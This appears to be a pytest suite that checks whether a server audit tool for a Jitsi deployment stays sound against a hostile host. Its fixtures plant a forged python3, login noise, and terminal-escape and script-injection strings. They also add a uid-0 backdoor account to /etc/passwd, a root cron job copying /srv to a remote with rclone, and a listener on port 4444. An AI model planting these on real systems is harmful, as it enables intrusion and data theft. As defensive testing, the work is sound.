"""A server that lies or is a mess: the audit ends with a sentence or says unknown, and nothing of
ours comes to harm. Each test leaves the server as it was."""

import re
from pathlib import Path

import pytest

from tests.lab.conftest import Site
from tests.lab.hostile import as_root, audit, changed, unharmed

NIGHTLY = pytest.mark.nightly

# -- a python3 that lies ----------------------------------------------------------------------

#: Stands before the real one in the path of sudo.
_LIAR = "/usr/local/bin/python3"
_PUT = f"cat > {_LIAR}; chmod 755 {_LIAR}"
_AWAY = f"rm -f {_LIAR} /var/tmp/kept"

#: What it does, and what the audit says of it.
LIARS = {
    "garbage": ("head -c 200000 /dev/urandom", "gave no evidence"),
    "nothing": ("exit 0", "gave no evidence"),
    "nothing, and fails": ("exit 1", "gave no evidence"),
    "as if it were missing": ("exit 127", "gave no evidence"),
    "forged JSON": ('echo \'{"policy": "pass", "results": []}\'', "gave no evidence"),
    "the first line alone": ("echo '{\"selfhost\": 1}'", "sent the answer to another audit"),
    "escapes": ("printf '\\033]0;owned\\007\\033[2J\\n'", "gave no evidence"),
    "complains by the megabyte": ("yes no | head -c 20000000 >&2; exit 1", "gave no evidence"),
    "endless": ("yes '{\"selfhost\": 1}'", "sent more than"),
    "endless, without a line": ("tr '\\0' x </dev/zero", "sent more than"),
    "ends by a signal": ("kill -9 $$", "gave no evidence"),
    "noise before": ('echo Welcome; exec /usr/bin/python3 "$@"', "it printed 'Welcome"),
    "noise behind": ('/usr/bin/python3 "$@"; echo Bye', "cut off"),
    "cuts the answer off": ('/usr/bin/python3 "$@" | head -c 30000', "cut off"),
    "too old": ("echo 'SyntaxError: invalid syntax' >&2; exit 1", "too old"),
}
#: These take as long as an answer may.
SLOW = {
    "never ends": ("exec sleep 1000", "did not finish within 90 seconds"),
    "never ends once it began": (
        "echo '{\"selfhost\": 1}'; exec sleep 1000",
        "did not finish within 90 seconds",
    ),
    "complains without an end": ("exec yes no >&2", "did not finish within 90 seconds"),
}
_IN_SHORT = ("garbage",)


@pytest.mark.parametrize(
    "liar",
    [pytest.param(name, marks=[] if name in _IN_SHORT else NIGHTLY) for name in (*LIARS, *SLOW)],
)
def test_a_python3_that_lies(site: Site, tmp_path: Path, liar: str) -> None:
    does, said = (LIARS | SLOW)[liar]
    with changed(site, _PUT, _AWAY, f"#!/bin/sh\n{does}\n".encode()):
        found = audit(site, tmp_path)
    unharmed(found, site, tmp_path, seconds=110 if liar in SLOW else 40)
    assert found.exit_code == 3
    assert said in found.sentence
    assert "\n" not in found.sentence
    assert found.statuses == {}


@NIGHTLY
def test_no_python3_at_all(site: Site, tmp_path: Path) -> None:
    with changed(
        site,
        "mv /usr/bin/python3 /usr/bin/python3.away",
        "mv /usr/bin/python3.away /usr/bin/python3",
    ):
        found = audit(site, tmp_path)
    unharmed(found, site, tmp_path)
    assert (found.exit_code, "has no python3" in found.sentence) == (3, True)


def test_a_recorded_answer(site: Site, tmp_path: Path) -> None:
    does = (
        "[ -s /var/tmp/kept ] && { cat >/dev/null; exec cat /var/tmp/kept; }\n"
        '/usr/bin/python3 "$@" | tee /var/tmp/kept'
    )
    with changed(site, _PUT, _AWAY, f"#!/bin/sh\n{does}\n".encode()):
        first, second = (audit(site, tmp_path / name) for name in ("first", "second"))
    assert first.exit_code == 0, first.said
    unharmed(second, site, tmp_path / "second")
    assert second.exit_code == 3
    assert "sent the answer to another audit" in second.sentence


#: Reads what it is asked as the real one would, and answers each step out of its head.
_FORGER = """#!/usr/bin/python3
import base64, json, sys, zlib
sys.stdin.buffer.read(int(sys.argv[4]))
order = json.loads(sys.stdin.buffer.read())
def line(step, place, state, content=b"", **more):
    packed = base64.b64encode(zlib.compress(content)).decode()
    texts = dict.fromkeys(("reason", "mode", "owner", "target", "sha256"), "")
    texts.update(source=step["name"], path=place, state=state, content=packed, **more)
    return texts
def lines():
{}
said = list(lines())
print(json.dumps({{"selfhost": 1, "nonce": order["nonce"]}}))
for each in said:
    print(each if isinstance(each, str) else json.dumps(each))
print(json.dumps({{"end": len(said)}}))
"""
_ABSENT = """
    for step in order["plan"]:
        for place in step["places"]:
            yield line(step, place, "absent")
"""
_EMPTY = """
    for step in order["plan"]:
        yield line(step, step["places"][0], "present")
"""
_SWEPT = """
    for step in order["plan"]:
        yield line(step, step["places"][0], "present", bytes([255, 254, 1, 27]) * 5000)
"""
_FAILED = """
    for step in order["plan"]:
        reason = "\\x1b[2J<script>alert(1)\\u202e\\nforged: pass"
        yield line(step, "\\x1b]0;x\\x07", "failed", reason=reason)
"""


@pytest.mark.parametrize(
    "body",
    [
        _ABSENT,
        pytest.param(_EMPTY, marks=NIGHTLY),
        pytest.param(_SWEPT, marks=NIGHTLY),
        pytest.param(_FAILED, marks=NIGHTLY),
        pytest.param("    yield from ()\n", marks=NIGHTLY),
    ],
    ids=["all absent", "all empty", "all garbage", "all failed", "nothing answered"],
)
def test_an_answer_that_is_made_up_passes_nothing(site: Site, tmp_path: Path, body: str) -> None:
    with changed(site, _PUT, _AWAY, _FORGER.format(body).encode()):
        found = audit(site, tmp_path)
    unharmed(found, site, tmp_path)
    assert found.sentence == ""
    assert len(found.statuses) > 200
    assert set(found.statuses.values()) <= {"unknown", "fail"}
    assert found.exit_code == (1 if "fail" in found.statuses.values() else 3)
    assert harmful(found.output) == []


@NIGHTLY
@pytest.mark.parametrize(
    ("body", "said"),
    [
        ("    yield line(order['plan'][0], '/x', 'present', bytes(1 << 28))\n", "not the evidence"),
        ("    for n in range(30000): yield line(order['plan'][0], '/x', 'absent')\n", "cut off"),
        ("    yield line(order['plan'][0], '/x' * 5000, 'absent')\n", "not the evidence"),
        ("    yield '[' * 5000000\n", "not the evidence"),
        ("    yield '{\"a\":' * 60000\n", "not the evidence"),
        ("    yield json.dumps({'source': 'what.else'})\n", "not the evidence"),
    ],
    ids=["a bomb", "too many", "a long path", "brackets", "objects", "not asked for"],
)
def test_an_answer_that_is_out_of_bounds(site: Site, tmp_path: Path, body: str, said: str) -> None:
    with changed(site, _PUT, _AWAY, _FORGER.format(body).encode()):
        found = audit(site, tmp_path)
    unharmed(found, site, tmp_path)
    assert (found.exit_code, said in found.sentence) == (3, True), found.sentence


# -- a login that makes noise -----------------------------------------------------------------

NOISE = 'Welcome! \\033[31mred\\033[0m {"selfhost": 1}\\n'
_RC = "/home/admin/.bashrc"
#: How it is made and undone, and whether the answer is lost in it.
NOISY = {
    "profile.d": (f"printf '{NOISE}' >/etc/profile.d/noise.txt; "
                  "echo 'cat /etc/profile.d/noise.txt' >/etc/profile.d/noise.sh",
                  "rm -f /etc/profile.d/noise.*", False),
    "motd": (f"cp -a /etc/motd /etc/motd.kept; printf '{NOISE}' >/etc/motd",
             "mv /etc/motd.kept /etc/motd", False),
    "banner": (f"printf '{NOISE}' >/etc/ssh/noise; "
               "echo Banner /etc/ssh/noise >/etc/ssh/sshd_config.d/99-noise.conf; "
               "systemctl reload ssh",
               "rm -f /etc/ssh/noise /etc/ssh/sshd_config.d/99-noise.conf; systemctl reload ssh",
               False),
    "bashrc": (f"cp -a {_RC} {_RC}.kept; printf 'echo Welcome\\n' | cat - {_RC}.kept >{_RC}",
               f"mv {_RC}.kept {_RC}", True),
    "shell": ("printf '#!/bin/sh\\necho Welcome\\nexec /bin/bash \"$@\"\\n' >/usr/local/bin/noisy; "
              "chmod 755 /usr/local/bin/noisy; usermod -s /usr/local/bin/noisy admin",
              "usermod -s /bin/bash admin; rm /usr/local/bin/noisy", True),
}  # fmt: skip


@pytest.mark.parametrize(
    "where", [pytest.param(w, marks=[] if w == "bashrc" else NIGHTLY) for w in NOISY]
)
def test_a_login_that_makes_noise(site: Site, tmp_path: Path, where: str) -> None:
    do, undo, lost = NOISY[where]
    with changed(site, do, undo):
        found = audit(site, tmp_path)
    unharmed(found, site, tmp_path)
    assert found.exit_code == (3 if lost else 0), found.said
    assert ("it printed 'Welcome" in found.sentence) == lost
    assert harmful(found.output) == []


# -- files that are none ----------------------------------------------------------------------

#: A place that the collector reads, and a control that rests on it alone.
PLACES = {
    "/etc/prosody/prosody.cfg.lua": "prosody-federation",
    "/etc/jitsi/jicofo/jicofo.conf": "jicofo-visitors",
    "/etc/jitsi/videobridge/jvb.conf": "videobridge-stun",
    "/etc/turnserver.conf": "coturn-verbose-log",
    "/etc/jitsi/meet/meet.example.test-config.js": "web-local-recording",
    "/etc/nginx/nginx.conf": "nginx-foreign-proxy",
    "/etc/crontab": "host-upload-jobs",
}
#: Each makes what is none at ``$1``.
KINDS = {
    "pipe": "mkfifo $1",
    "socket": "/usr/bin/python3 -c 'import socket, sys; "
    "socket.socket(socket.AF_UNIX).bind(sys.argv[1])' $1",
    "link to itself": "ln -s ${1##*/} $1",
    "endless device": "ln -s /dev/zero $1",
    "full device": "ln -s /dev/full $1",
    "folder": "mkdir $1",
    "10 GiB of nothing": "truncate -s 10G $1",
    "binary": "head -c 300000 /dev/urandom >$1",
    "a line of 5 MB": "head -c 5000000 /dev/zero | tr '\\0' x >$1",
}
_ASIDE = "mkdir -p /var/tmp/aside; for one; do mv $one /var/tmp/aside/$(echo $one | tr / %); done"
_BACK = "for one; do rm -rf $one; mv /var/tmp/aside/$(echo $one | tr / %) $one; done"


def replaced(site: Site, folder: Path, kinds: dict[str, str]) -> None:
    """Audit with each place made what is none, by its own script."""
    as_root(site, _ASIDE, arguments=tuple(kinds))
    try:
        for place, script in kinds.items():
            as_root(site, script, arguments=(place,))
        found = audit(site, folder)
    finally:
        as_root(site, _BACK, arguments=tuple(kinds))
    unharmed(found, site, folder)
    assert found.sentence == ""
    assert {c: found.statuses[c] for c in PLACES.values()} == dict.fromkeys(
        PLACES.values(), "unknown"
    )
    assert found.exit_code in (1, 3)


def test_files_that_are_none_each_of_another_kind(site: Site, tmp_path: Path) -> None:
    replaced(site, tmp_path, dict(zip(PLACES, KINDS.values(), strict=False)))


@NIGHTLY
@pytest.mark.parametrize("kind", KINDS)
def test_files_that_are_none(site: Site, tmp_path: Path, kind: str) -> None:
    replaced(site, tmp_path, dict.fromkeys(PLACES, KINDS[kind]))


@NIGHTLY
def test_files_that_grow_while_they_are_read(site: Site, tmp_path: Path) -> None:
    grow = (
        "while [ $(stat -c %s $1) -lt 300000000 ]; do yes '# and on' | head -c 1000000; done >>$1"
    )
    start = f"systemd-run -q --unit=grow-$(echo $1 | tr -c 'a-z\\n' -) sh -c {grow!r} sh $1"
    try:
        replaced(site, tmp_path, dict.fromkeys(PLACES, f"head -c 3000000 /dev/zero >$1; {start}"))
    finally:
        as_root(site, "systemctl stop 'grow-*'")


_CROWD = r"""
import os, sys
def crowd(folder, count, name):
    os.makedirs(folder, exist_ok=True)
    for number in range(count):
        first = os.path.join(folder, name % (number - number % 50000))
        here = os.path.join(folder, name % number)
        if number % 50000 == 0:
            open(here, "xb").close()
        else:
            os.link(first, here)
crowd("/var/lib/crowd", 300000, "%06d.bin")
crowd("/etc/prosody/conf.d", 25000, "zz%06d.cfg.lua")
crowd("/tmp/recordings", 25000, "%06d.txt")
"""
_DISPERSED = (
    "rm -rf /var/lib/crowd /tmp/recordings; find /etc/prosody/conf.d -name 'zz*.cfg.lua' -delete"
)


@NIGHTLY
def test_more_files_than_can_be_looked_at(site: Site, tmp_path: Path) -> None:
    with changed(site, "/usr/bin/python3 -", _DISPERSED, _CROWD.encode()):
        found = audit(site, tmp_path)
    unharmed(found, site, tmp_path)
    named = ("host-stray-recordings", "prosody-federation", "host-recordings")
    assert {found.statuses[name] for name in named} == {"unknown"}


@NIGHTLY
def test_a_recording_of_10_gib_is_told_by_its_first_bytes(site: Site, tmp_path: Path) -> None:
    make = "printf '\\0\\0\\0\\040ftypisom' >/srv/hole.bin; truncate -s 10G /srv/hole.bin"
    with changed(site, make, "rm /srv/hole.bin"):
        found = audit(site, tmp_path)
    unharmed(found, site, tmp_path)
    assert (found.exit_code, found.statuses["host-stray-recordings"]) == (1, "fail")


# -- names that act on whoever reads them ------------------------------------------------------

_EVIL = (
    "\x1b]0;owned\x07\x1b[2J\u202egpj.<script>alert(1)</script>\u2066\u2028\r\nforged: all passes"
)
_PLANT = r"""
import ctypes, os, pathlib, socket, sys, time
evil = sys.argv[1]
os.makedirs("/srv/recordings", exist_ok=True)
media = b"\0\0\0 ftypisom" + bytes(400000)
for folder in ("/srv/recordings", "/home/admin"):
    pathlib.Path(folder, evil.replace("/", "_") + ".mp4").write_bytes(media)
with open("/etc/passwd", "a") as accounts:
    accounts.write(evil.replace("\r\n", "").replace(":", "") + ":x:0:0::/root:/bin/sh\n")
pathlib.Path("/etc/cron.d", "evil").write_text("* * * * * root rclone copy /srv x: # %s\n" % evil)
with open("/etc/jitsi/jicofo/jicofo.conf", "a") as conf:
    conf.write('jicofo.transcription.url-template = "wss://%s"\n' % evil.split("\r")[0])
pathlib.Path("/etc/systemd/system/jibri.service").write_text(
    "[Unit]\nDescription=%s\n[Service]\nExecStart=/bin/sleep 9999\n" % evil.split("\r")[0])
if os.fork() == 0:
    os.setsid()
    for handle in (0, 1, 2):
        os.dup2(os.open(os.devnull, os.O_RDWR), handle)
    if os.fork() == 0:
        os.execv("/bin/sleep", ["java -jar /opt/jitsi/jibri/jibri.jar " + evil, "9999"])
    ctypes.CDLL(None).prctl(15, b"\x1b[2J<b>\r\nf: x", 0, 0, 0)
    listening = socket.socket()
    listening.bind(("0.0.0.0", 4444))
    listening.listen()
    time.sleep(9999)
"""
_PLANTED = (
    "cp -a /etc/passwd /var/tmp/passwd; cp -a /etc/jitsi/jicofo/jicofo.conf /var/tmp/jicofo.conf; "
    "[ -e /srv/recordings ] || touch /var/tmp/no-recordings; "
    '/usr/bin/python3 - "$(cat /var/tmp/evil)"; systemctl daemon-reload; systemctl start jibri'
)
_UPROOTED = (
    "mv /var/tmp/passwd /etc/passwd; mv /var/tmp/jicofo.conf /etc/jitsi/jicofo/jicofo.conf; "
    "systemctl stop jibri; rm /etc/systemd/system/jibri.service; systemctl daemon-reload; "
    "pkill -f '[j]ibri.jar' || true; fuser -sk 4444/tcp || true; "
    "rm -f /etc/cron.d/evil /var/tmp/evil /home/admin/*.mp4 /srv/recordings/*.mp4; "
    "[ ! -e /var/tmp/no-recordings ] || rm -r /var/tmp/no-recordings /srv/recordings"
)


def harmful(output: dict[str, str]) -> list[str]:
    """What in the reports would act on a terminal, a browser or a reader's eye."""
    control = re.compile(
        "[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]"
    )
    found = [
        f"{form}: {match[0]!r}" for form, text in output.items() for match in control.finditer(text)
    ]
    for form in ("html", "markdown", "junit"):
        found += [f"{form}: an element"] if "<script>alert" in output[form] else []
    for form, text in output.items():
        found += [f"{form}: a line"] if re.search(r"^\s*forged:", text, re.M) else []
    return found


def test_names_that_act_on_whoever_reads_them(site: Site, tmp_path: Path) -> None:
    as_root(site, "cat >/var/tmp/evil", _EVIL.encode())
    with changed(site, _PLANTED, _UPROOTED, _PLANT.encode()):
        found = audit(site, tmp_path)
    unharmed(found, site, tmp_path)
    assert found.exit_code == 1
    failed = {name for name, status in found.statuses.items() if status == "fail"}
    assert {
        *("host-recorder", "host-recordings", "host-stray-recordings", "host-root-accounts"),
        *("host-listeners", "host-upload-jobs", "jicofo-transcription-url"),
    } <= failed
    shown = found.output["json"]
    assert shown.count("alert(1)") >= 5
    assert harmful(found.output) == []
